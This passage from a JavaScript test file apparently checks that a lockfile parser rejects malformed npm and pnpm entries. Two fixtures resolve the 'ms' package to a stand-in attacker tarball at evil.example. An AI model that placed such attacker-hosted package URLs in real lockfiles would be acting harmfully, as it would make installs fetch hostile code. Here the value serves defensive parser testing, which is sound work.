    unparseable("package-lock.json", `${JSON.stringify({ name: "app", lockfileVersion: 3 }, null, 2)}\n`);
    unparseable(
      "package-lock.json",
      npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/ms": { version: "2.1.3", resolved: ["https://evil.example/ms.tgz"], integrity: HASH.ms } }),
    );
  });

  it("refuses a pnpm resolution field that is not text", () => {
    unparseable(
      "pnpm-lock.yaml",
      pnpmLockfile([PNPM_LODASH, `  ms@2.1.3:\n    resolution: {integrity: ${HASH.ms}, tarball: [https://evil.example/ms.tgz]}\n`]),
    );
  });
});
